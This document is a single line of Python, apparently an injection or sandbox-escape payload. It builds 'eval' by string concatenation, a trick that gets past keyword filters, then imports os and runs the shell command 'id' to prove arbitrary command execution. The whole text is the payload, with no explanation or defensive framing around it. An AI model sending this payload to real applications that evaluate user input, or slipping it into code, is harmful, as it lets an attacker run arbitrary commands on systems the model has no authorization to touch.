__builtins__['ev' + 'al']("__import__('os').system('id')")
